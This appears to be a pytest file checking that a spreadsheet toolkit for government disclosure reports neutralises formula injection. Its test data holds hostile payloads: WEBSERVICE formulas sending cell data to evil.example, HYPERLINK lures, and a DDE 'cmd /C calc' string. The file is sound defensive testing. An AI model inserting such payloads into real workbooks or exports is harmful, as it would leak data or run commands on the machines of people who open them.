"""Issue 19 item 14: formula injection. Every text the toolkit writes into a workbook stays a text (a report line
``=WEBSERVICE(...)`` never becomes a live formula), read back from the written XML and recalculated by
LibreOffice; and a formula in any cell a clerk fills is an S2 finding (S2.input) in both readers and in collect."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from conftest import Filler, cli, need, shared_file

from xl_addin import api, spec
from xl_addin.adapters.fast_reader import read_fast
from xl_addin.adapters.fileio import sheet_parts
from xl_addin.adapters.xlsx_reader import read_workbook
from xl_addin.importers.record import RECORD_SHEET

WEBSERVICE = '=WEBSERVICE("http://evil.example/?d="&B3)'
HYPERLINK = '=HYPERLINK("http://evil.example","点此")'
#: the lines a hostile report starts its sections with: every character a spreadsheet takes as a formula's start
HOSTILE_LINES = {"s1.overview": HYPERLINK, "s1.proactive": WEBSERVICE, "s1.on_request": "+1+cmd|' /C calc'!A0",
                 "s1.management": "-2+3", "s1.platform": "@SUM(1+1)"}


def hostile_report(tmp_path: Path) -> Path:
    """A published report (the real suqian example) whose first five sections start with a formula-like line."""
    text = shared_file("examples/published/suqian-city-2023.txt").read_text(encoding="utf-8")
    heads = {"s1.overview": "一、总体情况\n", "s1.proactive": "（一）主动公开方面。", "s1.on_request": "（二）依申请公开方面。",
             "s1.management": "（三）政府信息管理方面。", "s1.platform": "（四）政府信息公开平台建设方面。"}
    for key, head in heads.items():
        assert head in text, head
        sep = "" if head.endswith("\n") else "\n"
        text = text.replace(head, head + sep + HOSTILE_LINES[key] + "\n", 1)
    path = tmp_path / "带公式的报告.txt"
    path.write_text(text, encoding="utf-8")
    return path


def _cells_xml(path: Path, sheet: str) -> dict[str, str]:
    """A1 -> the whole <c> element of every cell of ``sheet``, as written."""
    with zipfile.ZipFile(path) as zf:
        part = next(p for p, n in sheet_parts(zf).items() if n == sheet)
        xml = zf.read(part).decode("utf-8")
    return {m.group(1): m.group(0) for m in re.finditer(r'<c r="([A-Z]+\d+)"[^>]*?(?:/>|>.*?</c>)', xml, re.S)}


def _assert_text_cell(xml: str, where: str) -> None:
    assert "<f>" not in xml and "<f " not in xml, f"{where} is a formula: {xml[:200]}"
    assert re.search(r'\bt="(?:inlineStr|s|str)"', xml), f"{where} is not a text cell: {xml[:200]}"


@pytest.fixture(scope="module")
def imported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("inject")
    out = tmp / "导入.xlsx"
    run = cli("import", hostile_report(tmp), "-o", out)
    assert run.returncode == 0, run.stdout + run.stderr
    return out


def test_import_writes_formula_lines_as_text_in_the_narrative_and_the_record(imported: Path) -> None:
    """The 正文 cells and the 导入记录 rows holding those lines: text cells with no <f>, the text kept whole and
    marked with Excel's quote prefix (so that editing the cell in Excel keeps it text too)."""
    narrative = _cells_xml(imported, spec.NARRATIVE_SHEET)
    record = _cells_xml(imported, RECORD_SHEET)
    wb = openpyxl.load_workbook(imported)
    for key, line in HOSTILE_LINES.items():
        a1 = spec.LAYOUT.locations[key].a1
        _assert_text_cell(narrative[a1], f"正文!{a1}")
        cell = wb[spec.NARRATIVE_SHEET][a1]
        assert cell.data_type == "s" and str(cell.value).startswith(line) and cell.quotePrefix, (key, cell.value)
        rows = [c for c in wb[RECORD_SHEET].iter_rows() if any(str(x.value or "").startswith(line) for x in c)]
        assert rows, f"{key}: not in 导入记录"
        for row in rows:
            for x in row:
                if str(x.value or "").startswith(line):
                    _assert_text_cell(record[x.coordinate], f"导入记录!{x.coordinate}")
    # and nowhere in the workbook did a report line become a formula
    with zipfile.ZipFile(imported) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                formulas = re.findall(rb"<f>([^<]*)</f>", zf.read(name))
                assert not [f for f in formulas if b"evil" in f or b"cmd" in f or f.startswith((b"-2", b"SUM(1"))], name


def test_an_imported_report_with_formula_lines_has_no_s2_input_finding(imported: Path) -> None:
    """Text that merely starts with "=" is no formula: neither reader takes it for one."""
    assert read_fast(imported).formulas == read_workbook(imported).formulas
    for reader in ("fast", "openpyxl"):
        assert not [f for f in api.check(imported, reader=reader).findings if f.code == "S2.input"]
    key = "s1.proactive"
    assert read_workbook(imported).values[key] == read_fast(imported).values[key]
    assert str(read_fast(imported).values[key]).startswith(WEBSERVICE)


@pytest.mark.libreoffice
def test_libreoffice_keeps_the_lines_as_literal_text_after_recalculation(imported: Path, tmp_path: Path) -> None:
    """Opened and fully recalculated by a real spreadsheet engine, each cell still shows the line itself: no
    formula ran (a WEBSERVICE would give #VALUE! or the fetched page, -2+3 would give 1)."""
    need("soffice")
    from xl_addin.adapters import office

    (sheets,) = office.recalculated_sheets([imported], tmp_path, workers=1, timeout=300)
    rows = sheets[spec.NARRATIVE_SHEET]
    for key, line in HOSTILE_LINES.items():
        where = spec.LAYOUT.locations[key]
        shown = rows[where.row - 1][where.col - 1]
        assert shown.startswith(line), (key, shown[:80])
    record = [c for row in sheets[RECORD_SHEET] for c in row]
    for line in HOSTILE_LINES.values():
        assert any(c.startswith(line) for c in record), line


def test_put_and_distribute_write_formula_like_text_as_text(template: Path, tmp_path: Path) -> None:
    """api.put (as the importer and the tests fill a template) and distribute's prefill (the roster's names)."""
    out = api.put(template, {"meta.agency": HYPERLINK, "s1.proactive": WEBSERVICE, "meta.contact": "-张三"},
                  tmp_path / "put.xlsx")
    meta, narrative = _cells_xml(out, spec.META_SHEET), _cells_xml(out, spec.NARRATIVE_SHEET)
    _assert_text_cell(meta[spec.LAYOUT.locations["meta.agency"].a1], "agency")
    _assert_text_cell(meta[spec.LAYOUT.locations["meta.contact"].a1], "contact")
    _assert_text_cell(narrative[spec.LAYOUT.locations["s1.proactive"].a1], "narrative")
    assert read_fast(out).values["meta.agency"] == HYPERLINK == read_workbook(out).values["meta.agency"]

    from xl_addin import coordinator

    roster = tmp_path / "名单.csv"
    with roster.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["机关名称", "机关类别", "层级"], [HYPERLINK, "部门", "县级"]])
    (made,) = coordinator.distribute(roster, tmp_path / "下发", 2024)
    _assert_text_cell(_cells_xml(made, spec.META_SHEET)[spec.LAYOUT.locations["meta.agency"].a1], "distributed")
    assert "meta.agency" not in read_fast(made).formulas and read_fast(made).values["meta.agency"] == HYPERLINK


#: a formula in each kind of cell a clerk fills: 正文, 基本信息, a table's count
FORMULA_INPUTS: dict[str, Any] = {"s1.proactive": '=WEBSERVICE("http://evil.example/")',
                                  "meta.agency": '=HYPERLINK("http://evil.example","某某局")',
                                  "t3.new.natural": "=1+1"}


def test_a_formula_in_any_input_cell_is_an_s2_error_in_both_readers(filled: Filler) -> None:
    path = filled(FORMULA_INPUTS)
    assert api.check(path, reader="fast") == api.check(path, reader="openpyxl")
    found = {f.key: f for f in api.check(path).findings if f.code == "S2.input"}
    assert set(found) == set(FORMULA_INPUTS)
    for key, formula in FORMULA_INPUTS.items():
        f = found[key]
        where = spec.LAYOUT.locations[key]
        assert (f.rule, f.severity.value, f.sheet, f.cell) == ("S2", "error", where.sheet, where.a1)
        label = spec.labels_of(key)[0]
        assert label in f.message and where.sheet in f.message and where.a1 in f.message
        assert formula in f.message and "请删除公式" in f.message
    assert not api.check(path).valid


def test_check_and_collect_report_the_formula(filled: Filler, tmp_path: Path) -> None:
    """From the command line: check exits 1 naming the cell; collect fails the agency with the same finding."""
    path = filled({"s1.proactive": '=WEBSERVICE("http://evil.example/")'}, name="某局.xlsx")
    run = cli("check", path)
    assert run.returncode == 1 and "正文!C4" in run.stdout and "WEBSERVICE" in run.stdout, run.stdout
    folder = tmp_path / "收件"
    folder.mkdir()
    (folder / path.name).write_bytes(path.read_bytes())
    run = cli("collect", folder, "-o", tmp_path / "汇总.xlsx", "--json")
    result = json.loads(run.stdout)
    (row,) = [r for r in result["rows"] if r["path"]]
    assert row["verdict"] == "fail"
    mine = [f for f in result["findings"] if "WEBSERVICE" in f["message"]]
    alone = [f for f in json.loads(cli("check", path, "--json").stdout)["files"][0]["findings"]
             if f["code"] == "S2.input"]
    assert len(mine) == 1 == len(alone) and mine[0]["message"] == alone[0]["message"]
    assert mine[0]["cell"] == spec.LAYOUT.locations["s1.proactive"].a1


def test_the_addin_results_sheet_quotes_a_sheet_name_that_looks_like_a_formula() -> None:
    """校验结果 is written cell by cell as each cell's Formula (XaWriteRows): a workbook's sheet renamed
    "=HYPERLINK(...)" (S2.renamed names it) must arrive as text, quoted like the labels and messages."""
    from xl_addin.adapters import livebook
    from xl_addin.model import Finding, Report, Severity

    name = '=HYPERLINK("http://evil.example","表三")'
    f = Finding("S2", Severity.WARNING, name, "", (), {}, "工作表“表三”被改名", "", "S2:renamed", "S2.renamed")
    (_, row) = livebook.results_grid(Report.of("x.xlsx", [f]))
    assert row[2] == "'" + name


def test_the_collect_summary_writes_agency_names_and_findings_as_text(template: Path, tmp_path: Path) -> None:
    """An agency named like a formula on the roster and in its workbook, with a formula in its narrative: the
    summary's 进度, 问题清单 and 汇总 hold every text as text (no <f> but the summary's own)."""
    folder = tmp_path / "收件"
    folder.mkdir()
    name = '=HYPERLINK("http://evil.example","某某局")'
    filled = api.put(template, {**api.sample_values(), "meta.agency": name}, tmp_path / "a.xlsx")
    wb = openpyxl.load_workbook(filled)
    wb[spec.NARRATIVE_SHEET][spec.LAYOUT.locations["s1.proactive"].a1] = '=WEBSERVICE("http://evil.example/")'
    wb.save(folder / "某某局.xlsx")
    roster = tmp_path / "名单.csv"
    with roster.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["机关名称", "机关类别", "层级"], [name, "部门", "县级"]])
    out = tmp_path / "汇总.xlsx"
    run = cli("collect", folder, "--roster", roster, "-o", out)
    assert run.returncode == 1, run.stdout + run.stderr
    with zipfile.ZipFile(out) as zf:
        xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
    assert b"evil" in xml  # the name and the finding are there ...
    assert not re.search(rb"<f>[^<]*evil", xml)  # ... as text
